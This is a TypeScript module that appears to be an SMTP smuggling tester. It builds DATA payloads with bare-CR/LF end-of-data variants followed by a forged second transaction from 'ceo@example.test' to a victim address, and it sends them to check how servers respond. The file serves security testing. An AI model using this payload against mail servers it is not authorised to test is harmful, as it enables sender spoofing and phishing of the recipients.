/**
 * SMTP smuggling probes (SEC Consult, December 2023): an end-of-data written
 * with bare CR or LF, followed by a second transaction in the same DATA. A
 * server that ends DATA at the odd sequence queues a forged second message.
 */
import type { RawClient, Reply } from './raw.js';

export interface Variant {
  name: string;
  seq: string;
  /** Contains a CR not followed by LF (refused even when bare LF is normalised). */
  bareCr: boolean;
}

const v = (seq: string): Variant => ({ name: JSON.stringify(seq), seq, bareCr: /\r(?!\n)/.test(seq) });

export const VARIANTS: Variant[] = ['\n.\n', '\n.\r\n', '\r\n.\n', '\r.\r', '\r.\n', '\r.\r\n', '\r\n.\r', '\n.\r', '\r\n.\r\r\n', '\n..\n'].map(v);

export const SMUGGLED_SENDER = 'ceo@example.test';

/** The DATA payload: a harmless first message, the variant, then a forged transaction. */
export function payload(variant: Variant, victim: string): string {
  return (
    'From: sender@elsewhere.test\r\nSubject: first\r\n\r\nfirst body' +
    variant.seq +
    `MAIL FROM:<${SMUGGLED_SENDER}>\r\nRCPT TO:<${victim}>\r\nDATA\r\n` +
    `From: ${SMUGGLED_SENDER}\r\nTo: ${victim}\r\nSubject: smuggled\r\n\r\nsmuggled body\r\n.\r\n`
  );
}

/**
 * Runs one transaction carrying the probe and returns the reply to the data,
 * and the reply to the QUIT sent after it: a 221 there proves the server saw
 * no second transaction (otherwise its replies would come first).
 */
export async function probe(c: RawClient, from: string, rcpt: string, variant: Variant, victim: string, split: boolean): Promise<{ data: Reply | null; after: Reply | null }> {
  if ((await c.cmd(`MAIL FROM:<${from}>`))?.code !== 250) throw new Error('MAIL refused');
  if ((await c.cmd(`RCPT TO:<${rcpt}>`))?.code !== 250) throw new Error('RCPT refused');
  if ((await c.cmd('DATA'))?.code !== 354) throw new Error('DATA refused');
  const p = payload(variant, victim);
  if (split) {
    // The odd sequence split across writes: the parser must not depend on chunk boundaries.
    const at = p.indexOf(variant.seq);
    c.write(p.slice(0, at + 1));
    for (const ch of p.slice(at + 1, at + variant.seq.length + 1)) c.write(ch);
    c.write(p.slice(at + variant.seq.length + 1));
  } else c.write(p);
  const data = await c.reply();
  const after = await c.cmd('QUIT');
  return { data, after };
}
